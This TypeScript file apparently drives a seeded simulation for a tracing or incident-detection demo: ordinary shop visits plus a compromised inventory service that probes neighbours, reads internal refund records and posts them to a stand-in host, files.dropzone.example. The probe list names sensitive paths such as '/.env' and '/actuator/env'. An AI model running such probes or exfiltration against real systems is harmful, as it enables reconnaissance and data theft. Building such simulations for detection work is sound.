// The demo's scenario: ordinary traffic, and in its midst a compromised inventory service that probes its neighbours, finds a path
// that is allowed, reads through it and sends the data out. One seed gives one scenario.

import { setTimeout as sleep } from 'node:timers/promises';
import { type Parties, SUPPLIER_HOST, UNKNOWN_ITEM_MIN } from './services.ts';
import type { TraceContext } from './trace.ts';
import type { IncidentStep } from './truth.ts';

const VISITS = 150;
const VISITORS_AT_ONCE = 4;
const VISIT_PAUSE_MS_MAX = 40;
const ATTACK_PAUSE_MS_MAX = 25;
/** The attack begins when this share of the visits has begun. */
const ATTACK_AFTER = 0.5;
const RESTOCK_EVERY_VISITS = 30;
const READS_MIN = 6;
const READS_MAX = 12;
const SETTLE_MS_MAX = 15_000;
/** Refunds of ordinary visitors are 1000 to 1099, so that whoever reads these is the attacker. */
const STOLEN_REFUND_MIN = 2000;
export const DROPZONE_HOST = 'files.dropzone.example';
export const SHOP_HOST = 'shop.demo';

/** A request of a visitor. */
export interface Visit {
  readonly method: 'GET' | 'POST';
  readonly path: string;
  readonly body?: string;
  /** Absent: a browser without tracing. */
  readonly trace?: TraceContext;
  /** The visitor hangs up as soon as the request has arrived. */
  readonly hangsUp?: true;
  readonly pauseMs: number;
}

/** A request of the attacker, sent by inventory. */
export interface Move {
  readonly step: IncidentStep;
  readonly to: string;
  readonly method: 'GET' | 'POST';
  readonly path: string;
  readonly body?: string;
  /** False: sent without trace context and request id. */
  readonly isTraced: boolean;
  readonly pauseMs: number;
}

export interface Plan {
  readonly seed: number;
  readonly visits: readonly Visit[];
  readonly moves: readonly Move[];
}

/** Seeded random numbers in [0, 1): mulberry32. */
export function seeded(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32;
  };
}

class Dice {
  private readonly next: () => number;

  constructor(seed: number) {
    this.next = seeded(seed);
  }

  /** A whole number from `low` to `high`, both possible. */
  between(low: number, high: number): number {
    return low + Math.floor(this.next() * (high - low + 1));
  }

  hex(digits: number): string {
    return Array.from({ length: digits }, () => this.between(0, 15).toString(16)).join('');
  }

  shuffled<T>(items: readonly T[]): T[] {
    const order = [...items];
    for (let i = order.length - 1; i > 0; i--) {
      const j = this.between(0, i);
      [order[i], order[j]] = [order[j] as T, order[i] as T];
    }
    return order;
  }
}

function visitsOf(dice: Dice): Visit[] {
  const paths = Array.from({ length: VISITS }, (): Pick<Visit, 'method' | 'path' | 'body'> => {
    const chance = dice.between(1, 100);
    if (chance <= 25) return { method: 'GET', path: '/products' };
    if (chance <= 50) return { method: 'GET', path: `/products/${dice.between(1, 40)}` };
    if (chance <= 55) return { method: 'GET', path: `/products/${dice.between(UNKNOWN_ITEM_MIN, 999)}` };
    if (chance <= 75) return { method: 'POST', path: '/checkout', body: `{"item":${dice.between(1, 40)}}` };
    if (chance <= 83) return { method: 'GET', path: `/account/refunds/${dice.between(1000, 1099)}` };
    if (chance <= 92) return { method: 'GET', path: '/' };
    return { method: 'GET', path: '/favicon.ico' };
  });
  // What must occur in every run, whatever the dice say.
  const certain: Pick<Visit, 'method' | 'path' | 'hangsUp'>[] = [
    { method: 'GET', path: '/' },
    { method: 'GET', path: '/products/feed' },
    { method: 'GET', path: `/products/${UNKNOWN_ITEM_MIN}` },
    { method: 'GET', path: '/reports/yearly', hangsUp: true },
  ];
  return dice.shuffled([...paths, ...certain]).map((visit) => ({
    ...visit,
    ...(dice.between(1, 10) === 1
      ? {}
      : {
          trace: {
            traceId: `${dice.between(1, 9)}${dice.hex(31)}`,
            spanId: `${dice.between(1, 9)}${dice.hex(15)}`,
            flags: '01',
          },
        }),
    pauseMs: dice.between(0, VISIT_PAUSE_MS_MAX),
  }));
}

const PROBES: readonly (readonly [to: string, method: 'GET' | 'POST', path: string])[] = [
  ['payments.backend', 'GET', '/'],
  ['payments.backend', 'GET', '/cards'],
  ['payments.backend', 'GET', `/refunds/${STOLEN_REFUND_MIN}`],
  ['payments.backend', 'POST', '/charges'],
  ['frontend.shop', 'GET', '/'],
  ['frontend.shop', 'GET', '/account'],
  ['orders.shop', 'GET', '/admin'],
  ['orders.shop', 'GET', '/admin/users'],
  ['orders.shop', 'GET', '/.env'],
  ['orders.shop', 'GET', '/actuator/env'],
  ['orders.shop', 'GET', '/api/v1/users'],
];

function movesOf(dice: Dice): Move[] {
  const probes = dice
    .shuffled(PROBES)
    .map(([to, method, path]) => ({ step: 'probe' as const, to, method, path, isTraced: true }));
  const get = (step: IncidentStep, path: string, isTraced = true) =>
    ({ step, to: 'orders.shop', method: 'GET', path, isTraced }) as const;
  const finds = [get('find', '/internal'), get('find', '/internal/customers'), get('find', '/internal/refunds/1')];
  const count = dice.between(READS_MIN, READS_MAX);
  const first = STOLEN_REFUND_MIN + dice.between(0, 900);
  const reads = Array.from({ length: count }, (_, i) => get('read', `/internal/refunds/${first + i}`, i % 3 !== 2));
  const sends = Array.from({ length: dice.between(2, 3) }, () => ({
    step: 'exfiltrate' as const,
    to: DROPZONE_HOST,
    method: 'POST' as const,
    path: `/upload/${dice.hex(12)}`,
    isTraced: false,
  }));
  const found = get('find', `/internal/refunds/${STOLEN_REFUND_MIN}`);
  return [...probes, ...finds, found, ...reads, ...sends].map((move) => ({
    ...move,
    pauseMs: dice.between(2, ATTACK_PAUSE_MS_MAX),
  }));
}

/** The scenario of a seed. */
export function makePlan(seed: number): Plan {
  const dice = new Dice(seed);
  return { seed, visits: visitsOf(dice), moves: movesOf(dice) };
}

/** Paths that orders asks payments for only because of the attacker, with the step that they belong to. */
export function consequencesOf(plan: Plan): ReadonlyMap<string, IncidentStep> {
  const prefix = '/internal';
  return new Map(
    plan.moves
      .filter(({ path }) => path.startsWith(`${prefix}/refunds/`))
      .map(({ path, step }) => [path.slice(prefix.length), step]),
  );
}

async function visit(parties: Parties, { method, path, body, trace, hangsUp, pauseMs }: Visit): Promise<void> {
  const call = { to: SHOP_HOST, destination: 'frontend', method, path, trace: trace ?? (false as const) };
  await parties.visitor.call({
    ...call,
    ...(body === undefined ? {} : { body }),
    ...(hangsUp === undefined ? {} : { cut: parties.services.frontend.receiver.arrival(path) }),
  });
  await sleep(pauseMs);
}

/** What inventory does by itself on ordinary days. */
async function restock({ services }: Parties): Promise<void> {
  const { sender } = services.inventory;
  const { body } = await sender.call({ to: 'orders.shop', method: 'GET', path: '/orders/open' });
  await sender.call({ to: SUPPLIER_HOST, method: 'POST', path: '/restock', body });
}

async function attack({ services }: Parties, moves: readonly Move[]): Promise<void> {
  const stolen: string[] = [];
  for (const { step, to, method, path, isTraced, pauseMs } of moves) {
    const body = step === 'exfiltrate' ? JSON.stringify({ part: path, stolen }) : undefined;
    const answer = await services.inventory.sender.call({
      to,
      method,
      path,
      step,
      ...(method === 'POST' ? { body: body ?? '{}' } : {}),
      ...(isTraced ? {} : { trace: false as const }),
    });
    if (step === 'read') stolen.push(answer.body);
    await sleep(pauseMs);
  }
}

/** Plays a plan through the mesh that the parties are joined to. Resolves when every exchange is over on both sides. */
export async function play(plan: Plan, parties: Parties): Promise<void> {
  const queue = [...plan.visits];
  const attackAt = Math.floor(plan.visits.length * (1 - ATTACK_AFTER));
  const begin = Promise.withResolvers<void>();
  const visitors = Array.from({ length: VISITORS_AT_ONCE }, async () => {
    for (let next = queue.shift(); next !== undefined; next = queue.shift()) {
      if (queue.length === attackAt) begin.resolve();
      if (queue.length % RESTOCK_EVERY_VISITS === 0) await restock(parties);
      await visit(parties, next);
    }
  });
  await Promise.all([...visitors, begin.promise.then(() => attack(parties, plan.moves))]);
  // A request that was cut off is over for its sender before it is for its receiver.
  const receivers = [parties.outside, ...Object.values(parties.services).map(({ receiver }) => receiver)];
  const deadline = performance.now() + SETTLE_MS_MAX;
  while (receivers.some(({ open }) => open > 0)) {
    if (performance.now() > deadline) throw new Error('requests are still being served after everything was sent');
    await sleep(5);
  }
}
